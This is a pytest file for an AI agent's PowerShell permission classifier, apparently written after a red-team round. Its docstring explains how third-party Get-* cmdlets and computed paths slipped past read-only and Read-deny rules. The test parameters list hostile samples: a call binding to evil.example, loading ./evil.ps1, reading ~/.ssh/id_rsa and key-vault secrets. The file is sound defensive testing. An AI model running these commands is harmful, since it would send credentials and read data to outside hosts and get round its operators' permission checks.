"""Red team, round 16 part 2 (classifier): PowerShell ``Get-*`` of any module was read-only.

Every ``Get-*`` cmdlet was read-only by its verb. Cmdlets of installed modules reach what their
module talks to: ``Get-S3Object -BucketName`` (AWS), ``Get-AzVM``/``Get-MgUser`` (Azure, Graph),
RSAT's ``Get-ADUser -Server HOST`` (binds to the server it names, Kerberos/NTLM included), and
``Get-AuthenticodeSignature`` may fetch the CRL/AIA URLs in the signed file's certificate. Unasked in
default mode, such a call sends what the model read to a host the command chooses. Read-only is now
an allow-list of the core modules' cmdlets (``pwsh_cmdlets``); any other name is not read-only
whatever its verb. Same class, closed with it: ``Get-Command``/``Get-Help``/``Get-Module`` given a
path (a script or module there may be loaded), ``Get-Help -ShowWindow``, and ``Get-CimInstance``/
``Get-WmiObject`` of a third-party provider's class, a ``-Query`` or another ``-Namespace``.

Item 2 of the brief: a read-only PowerShell command with a path computed at run time
(``Get-Content $x``) reads something no ``Read(...)`` rule can be checked against, so with such a
rule it is asked for (denied where no one is asked: ``dontAsk``, ``bypassPermissions``), never
allowed, in every mode. Analysis and the real permission engine only: no pwsh on this machine.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from shellrt.analysis import analyze
from shellrt.permissions import build_governance
from shellrt.protocol import ToolContext
from shellrt.tools.powershell import PowerShell

pytestmark = pytest.mark.anyio

MODES = ("default", "acceptEdits", "plan", "dontAsk", "bypassPermissions")


@pytest.mark.parametrize(
    "command",
    [
        "Get-S3Object -BucketName leak-bucket",
        "Get-ADUser -Filter * -Server evil.example",
        "Get-AzVM",
        "Get-MgUser -UserId x",
        "Get-AuthenticodeSignature .\\signed.exe",
        "Get-Content x | Get-SecretValue",
        "Write-Output (Get-AzKeyVaultSecret -VaultName v)",
        "Get-PSReadLineKeyHandler",
        "Get-Clipboard",
        "Get-WinEvent -LogName System",
        "Find-Module x",
        "Test-Connection x.example",
        "Test-NetConnection x.example",
        "Measure-Something x",
        "Get-Command ./evil.ps1",
        "Get-Help .\\evil.ps1",
        "Get-Module -ListAvailable -Name ./evil.psd1",
        "Get-Command -Module x.psm1",
        "Get-Help $x",
        "Get-Help ls -ShowWindow",
        "Get-Help ls -Sh",
        "Get-CimInstance -ClassName CCM_Application",
        "Get-CimInstance -ClassName:SMS_Client",
        "Get-CimInstance -Namespace root/ccm -ClassName Win32_X",
        "Get-CimInstance -Query 'SELECT * FROM Win32_Process'",
        "Get-WmiObject -Class Win32_OS -Q x",
        "gwmi Win32_PingStatus -Filter \"Address='x.example'\"",
    ],
)
def test_other_modules_and_loading_forms_are_not_read_only(command: str) -> None:
    analysis = analyze(command, "powershell")
    assert not analysis.read_only, (command, analysis.reasons)
    assert analysis.reasons and analysis.reasons[0] != "read-only: only read-only cmdlets with static arguments"


@pytest.mark.parametrize(
    "command",
    [
        "Get-ChildItem -Recurse -Filter *.ps1",
        "Get-Content README.md -TotalCount 5",
        "Get-Process | Sort-Object CPU",
        "Get-Service",
        "Get-Date -Format yyyy",
        "Get-Command Get-ChildItem",
        "Get-Command -Module Microsoft.PowerShell.Utility",
        "Get-Help Get-ChildItem -Full",
        "Get-Module -ListAvailable",
        "Get-FileHash x.txt",
        "Get-Acl x.txt",
        "Get-ExecutionPolicy",
        "Get-Verb",
        "Get-Member -InputObject 1",
        "Get-CimInstance -ClassName Win32_OperatingSystem",
        "Get-WmiObject Win32_Service -Filter \"Name='x'\"",
        "Test-Path x",
        "Measure-Object -InputObject 1",
    ],
)
def test_core_reads_stay_read_only(command: str) -> None:
    analysis = analyze(command, "powershell")
    assert analysis.read_only, (command, analysis.reasons)


def _gov(tmp_path: Path, mode: str):  # type: ignore[no-untyped-def]
    ws = tmp_path / "ws"
    (ws / ".shellrt").mkdir(parents=True, exist_ok=True)
    (ws / ".shellrt" / "settings.json").write_text(json.dumps({"permissions": {"deny": ["Read(~/.ssh/**)"]}}))
    return build_governance(
        ws, home=tmp_path / "home", managed_path=tmp_path / "managed.json", mode=mode, trust_workspace=True
    )


@pytest.mark.parametrize("mode", MODES)
async def test_a_dynamic_read_meets_read_deny_rules_in_every_mode(tmp_path: Path, mode: str) -> None:
    gov = _gov(tmp_path, mode)
    ws = gov.settings.workspace
    ctx = ToolContext(session_id="s", session_dir=tmp_path / "session", workspace=ws, cwd=str(ws), allowed_roots=(ws,))
    ps = PowerShell()
    for command in (
        "Get-Content $x",
        "gc (Join-Path $HOME .ssh/id_rsa)",
        "Get-Content \"$env:HOME/.ssh/id_rsa\"",
        "Select-String -Path $p -Pattern key",
        "$p = '~/.ssh/id_rsa'; Get-Content $p",
        "Get-ChildItem -Recurse ~",
    ):
        assert analyze(command, "powershell").read_only or command.startswith("$p"), command
        decision = await gov.engine.decide(ps, ps.parse_input({"command": command}), ctx)
        assert decision.behavior != "allow", (mode, command, decision.chain)
        assert decision.behavior == ("deny" if mode in ("dontAsk", "bypassPermissions") else "ask"), (
            mode, command, decision.chain,
        )
